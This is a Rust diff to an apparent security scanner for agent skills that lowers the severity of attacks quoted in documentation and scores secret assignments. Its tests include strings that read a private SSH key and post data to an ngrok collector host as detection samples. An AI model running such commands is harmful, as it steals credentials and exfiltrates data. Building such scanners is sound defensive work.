@@ -104,6 +104,71 @@ pub(crate) fn vendor_installer(declared: &Declared, host: &str, url: &str) -> bo
         && declared.vendor(host)
 }
 
+/// Whether the file at `path` is documentation the skill ships for
+/// reading: Markdown or text other than `SKILL.md`, the instruction files
+/// an agent loads by itself (`CLAUDE.md`, `AGENTS.md`, rules) and the
+/// instructions of a plugin (`commands/`, `agents/`, `prompts/`).
+pub(crate) fn is_documentation(path: &str) -> bool {
+    let p = path.to_ascii_lowercase();
+    let doc = [".md", ".mdx", ".markdown", ".txt", ".rst", ".adoc"]
+        .iter()
+        .any(|e| p.ends_with(e));
+    let instructions = p == "skill.md"
+        || p.ends_with("/skill.md")
+        || crate::config::is_instruction_file(&p)
+        || ["commands/", "agents/", "prompts/", "rules/", ".claude/"]
+            .iter()
+            .any(|d| p.starts_with(d) || p.contains(&format!("/{d}")));
+    doc && !instructions
+}
+
+/// Whether a file at `path` holds tests or their fixtures.
+fn is_test(path: &str) -> bool {
+    let p = path.to_ascii_lowercase();
+    let name = p.rsplit('/').next().unwrap_or(&p);
+    ["tests/", "test/", "__tests__/", "fixtures/", "testdata/"]
+        .iter()
+        .any(|d| p.starts_with(d) || p.contains(&format!("/{d}")))
+        || name.starts_with("test_")
+        || name.contains(".test.")
+        || name.contains(".spec.")
+        || name.contains("_test.")
+}
+
+/// What a code block of documentation shows is described, not run: one
+/// step lower than the same code in a script or `SKILL.md`
+/// ([`is_documentation`]), so an attack quoted in a security guide is a
+/// note and an attack written as a reference's step is still flagged. What
+/// goes to a collector or a bare address stays as it is: no guide needs a
+/// live one.
+pub(crate) fn described(severity: Severity, evidence: &str) -> Severity {
+    let live = net::URL
+        .find_iter(evidence)
+        .filter_map(|m| net::host(m.as_str()))
+        .any(|h| collector(&h));
+    if live {
+        return severity;
+    }
+    match severity {
+        Severity::Critical => Severity::High,
+        Severity::High => Severity::Medium,
+        Severity::Medium | Severity::Low => Severity::Low,
+        Severity::Info => Severity::Info,
+    }
+}
+
+/// The severity of a high-entropy value assigned to a secret-named
+/// variable (not a key of a known format) in the file at `path`:
+/// documentation and tests are full of made-up credentials, so there it
+/// is a note.
+pub(crate) fn secret_assignment(path: &str) -> Severity {
+    if is_documentation(path) || is_test(path) {
+        Severity::Low
+    } else {
+        Severity::Medium
+    }
+}
+
 /// Whether the package spec `github:owner/tool` (or `gitlab:`,
 /// `bitbucket:`) is the skill's own vendor's: its owner or tool is one of
 /// the skill's product or publisher names.
@@ -175,6 +240,31 @@ mod tests {
             secrets_sent(&d, "s/other.py", None, Moved::Secrets),
             Severity::Critical
         );
+    }
+
+    #[test]
+    fn documentation_and_tests() {
+        assert!(is_documentation("references/guide.md"));
+        assert!(is_documentation("docs/a/b.txt"));
+        assert!(!is_documentation("SKILL.md"));
+        assert!(!is_documentation("sub/SKILL.md"));
+        assert!(!is_documentation("CLAUDE.md"));
+        assert!(!is_documentation("commands/deploy.md"));
+        assert!(!is_documentation("plugin/agents/x.md"));
+        assert!(!is_documentation("scripts/run.py"));
+        assert!(is_test("tests/test_api.py") && is_test("src/a.test.mjs"));
+        assert!(!is_test("scripts/latest.py"));
+        assert_eq!(described(Severity::Critical, "x"), Severity::High);
+        assert_eq!(
+            described(Severity::Medium, "cat ~/.ssh/id_rsa"),
+            Severity::Low
+        );
+        assert_eq!(
+            described(Severity::Critical, "curl -d @- https://x.ngrok.io"),
+            Severity::Critical
+        );
+        assert_eq!(secret_assignment("references/auth.md"), Severity::Low);
+        assert_eq!(secret_assignment("scripts/config.py"), Severity::Medium);
     }
 
     #[test]
